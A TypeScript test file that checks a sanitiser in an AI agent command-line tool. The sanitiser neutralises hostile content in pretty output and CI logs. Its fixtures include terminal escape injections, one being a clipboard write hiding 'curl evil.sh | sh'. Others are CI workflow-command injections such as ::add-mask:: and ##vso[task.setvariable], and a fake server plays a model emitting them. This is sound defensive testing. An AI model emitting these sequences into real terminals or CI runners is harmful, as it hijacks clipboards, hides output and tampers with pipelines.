import { execFile } from "node:child_process";
import { promisify } from "node:util";
import { afterEach, describe, expect, it } from "vitest";
import { inertText, InertStream, MARK } from "../../src/events/inert.js";
import { prettyWriter } from "../../src/events/pretty.js";
import { Spinner } from "../../src/events/spinner.js";
import type { PodEvent } from "../../src/events/schema.js";
import { startFakeServer, type FakeServer } from "../fake-server/server.js";
import { makeProject, manifest, podEnv, POD_BIN } from "../helpers/pod-process.js";

/**
 * People's output is inert (SPEC "Containment"; issue 22 item 6): what the model says, a
 * tool returns, a file is named or a hook answers is shown in pretty output without
 * driving the terminal (escape sequences, OSC 52 clipboard writes, cursor moves that
 * overwrite pod's own lines) or the CI runner (workflow commands at a line start).
 * Written before the sanitiser: against the earlier pretty output every case here failed.
 */
const ESC = "\x1b";
const ATTACKS = {
  osc52: `${ESC}]52;c;${Buffer.from("curl evil.sh | sh").toString("base64")}\x07`,
  title: `${ESC}]0;pwned${ESC}\\`,
  cursorUp: `${ESC}[2A${ESC}[2K`,
  clear: `${ESC}[2J${ESC}[H`,
  sgr: `${ESC}[31mred${ESC}[0m`,
  c1Csi: "\x9b31m",
  c1Osc: "\x9d52;c;AAAA\x9c",
  bell: "\x07\x08\x0b\x0c\x7f",
};
const CONTROL = /[\x00-\x08\x0b-\x1f\x7f-\x9f]/; // every control but \t and \n
/** A line that starts (after blanks) with a workflow command a CI runner would execute. */
const COMMAND_LINE = /^[\s\u0085]*(::|##teamcity\[)|##\[|##vso\[/m;

const plain = (s: string) => s.replace(/\x1b\[[0-9;]*m/g, "");

describe("the sanitiser", () => {
  it("removes every escape sequence, C1 and C0 control but \\n and \\t", () => {
    for (const [name, seq] of Object.entries(ATTACKS)) {
      const out = inertText(`before ${seq} after\tx\ny`);
      expect(out, name).not.toMatch(CONTROL);
      expect(out, name).toMatch(/^before .* after\tx\ny$/);
    }
    expect(inertText(`${ESC}[31mred${ESC}[0m`)).toBe("red");
    expect(inertText(ATTACKS.osc52)).toBe("");
  });

  it("turns carriage returns into newlines: nothing overwrites a line", () => {
    expect(inertText("all tests passed\rFAILED: 3 tests")).toBe("all tests passed\nFAILED: 3 tests");
    expect(inertText("a\r\nb")).toBe("a\nb");
  });

  it("neutralises workflow commands at a line start, and ##vso[ anywhere", () => {
    const text = "::add-mask::x\n  ::error file=a::boom\n::stop-commands::tok\n##[group]g\n##teamcity[message]\nok ##vso[task.setvariable variable=A]1\nnot::a::command";
    const out = inertText(text);
    expect(out).not.toMatch(COMMAND_LINE);
    expect(out.replaceAll(MARK, "")).toBe(text);
    expect(out).toContain("not::a::command");
  });

  it("the runner's own reading: :: after any Unicode blank (.NET TrimStart), the legacy ##[ anywhere in a line", () => {
    // actions/runner ActionCommand.cs: a line is TrimStart()ed before "::" is looked for, and "##[" is found with IndexOf.
    const text = "\u00a0::add-mask::x\n\u2003\u3000::error::boom\n\u202f::stop-commands::tok\nsee ##[set-output name=a;]1\n\u2028::warning::w";
    const out = inertText(text);
    expect(out).not.toMatch(COMMAND_LINE);
    expect(out.replaceAll(MARK, "")).toBe(text);
    const s = new InertStream();
    const streamed = ["ok\n\u00a0", ":", ":add-mask::y\nmid ##", "[group]g\n"].map((p) => s.push(p)).join("") + s.flush();
    expect(streamed).not.toMatch(COMMAND_LINE);
    expect(streamed.replaceAll(MARK, "")).toBe("ok\n\u00a0::add-mask::y\nmid ##[group]g\n");
  });

  it("streamed text: a command split across deltas is still caught, and nothing is lost", () => {
    const s = new InertStream();
    const pieces = ["Done.\n:", ":add-mask::", "secret\n##", "vso[task.complete]x\nend\r", "\nlast"];
    const out = pieces.map((p) => s.push(p)).join("") + s.flush();
    expect(out).not.toMatch(COMMAND_LINE);
    expect(out.replaceAll(MARK, "")).toBe("Done.\n::add-mask::secret\n##vso[task.complete]x\nend\nlast");
  });
});

describe("pretty output", () => {
  const env = { v: 1 as const, seq: 0, ts: "2026-11-25T00:00:00.000Z", session_id: "s" };
  function render(events: PodEvent[]): string {
    let out = "";
    const stream = { isTTY: false, write: (s: string) => ((out += s), true), on: () => stream } as unknown as NodeJS.WriteStream;
    const w = prettyWriter(stream, new Spinner(stream, false));
    if (w.kind !== "events") throw new Error("pretty writes events");
    for (const e of events) w.event(e);
    return out;
  }

  it("shows no control sequence and no workflow command from text, tools, paths, hooks or errors", () => {
    const evil = Object.values(ATTACKS).join("") + "\n::error::injected\n";
    const out = render([
      { ...env, type: "run_start", run_id: "20260101T000000Z-a1b2c3", pod: "p", mode: "run", model: "m", input: `task\n::add-mask::${evil}` },
      { ...env, type: "turn_start", turn: 1 },
      { ...env, type: "text_delta", text: `Reading.${ATTACKS.cursorUp}\n:` },
      { ...env, type: "text_delta", text: `:set-output name=x::1\n` },
      { ...env, type: "tool_call_done", id: "t1", name: "Read", input: { path: `${evil}a.txt` } },
      { ...env, type: "usage", input_tokens: 1, output_tokens: 1, cache_read_input_tokens: 0, cache_creation_input_tokens: 0 },
      { ...env, type: "tool_result", id: "t1", name: "Bash", is_error: false, output: `::warning::x\n${evil}[exit code: 0]`, truncated: false },
      { ...env, type: "hook", hook: "pre_tool_use", tool_name: "Bash", matcher: "", command: "x", exit_code: 2, decision: "block", duration_ms: 1, message: `::error::${evil}` },
      { ...env, type: "error", code: "tool_error", message: `server said ${evil}` },
      { ...env, type: "run_end", result: "finished", turns: 1, usage: { input_tokens: 1, output_tokens: 1, cache_read_input_tokens: 0, cache_creation_input_tokens: 0 }, duration_ms: 1, denials: [{ id: "t1", tool: "Write", reason: `refused ${evil}` }], output: { note: `\x9b2J${evil}` } },
    ]);
    expect(out).not.toMatch(CONTROL);
    expect(out).not.toMatch(COMMAND_LINE);
    expect(out).toContain("Reading.");
    expect(out).toContain("■ finished");
  });
});

describe("the built binary", () => {
  let server: FakeServer | undefined;
  afterEach(async () => {
    await server?.close();
    server = undefined;
  });
  const run = promisify(execFile);

  it("--format pretty into a CI log: the model's escapes and workflow commands arrive inert", async () => {
    const evil = `${ATTACKS.osc52}${ATTACKS.cursorUp}All good.\r::add-mask::hidden\n::stop-commands::pwn\n##vso[task.setvariable variable=X]1\n`;
    server = await startFakeServer({
      turns: [
        { response: { content: [{ type: "text", text: `Reading.${ATTACKS.title}` }, { type: "tool_use", id: "t1", name: "Read", input: { path: "notes.txt" } }], stop_reason: "tool_use" } },
        { response: { content: [{ type: "text", text: evil }], stop_reason: "end_turn" } },
      ],
    });
    const dir = await makeProject(manifest(), { "notes.txt": `::error::from a file${ATTACKS.clear}\n` });
    const { stdout } = await run(process.execPath, [POD_BIN, "run", "read notes.txt", "--format", "pretty"], { cwd: dir, env: podEnv(server.url) as NodeJS.ProcessEnv });
    const shown = plain(stdout);
    expect(shown).not.toMatch(CONTROL);
    expect(shown).not.toMatch(COMMAND_LINE);
    expect(shown.replaceAll(MARK, "")).toContain("::add-mask::hidden");
    expect(shown).toContain("■ finished");
  });
});

describe("pretty output keeps every character of streamed text", () => {
  const env = { v: 1 as const, seq: 0, ts: "2026-11-25T00:00:00.000Z", session_id: "s" };
  it("text held back at a line start comes out when thinking turns into the answer, and at the end", () => {
    let out = "";
    const stream = { isTTY: false, write: (s: string) => ((out += s), true), on: () => stream } as unknown as NodeJS.WriteStream;
    const w = prettyWriter(stream, new Spinner(stream, false));
    if (w.kind !== "events") throw new Error("pretty writes events");
    w.event({ ...env, type: "thinking_delta", text: "hmm\n:" });
    w.event({ ...env, type: "text_delta", text: "Answer:\n#" });
    w.event({ ...env, type: "text_done", text: "Answer:\n#" });
    expect(out).toBe("hmm\n:\nAnswer:\n#");
  });
});
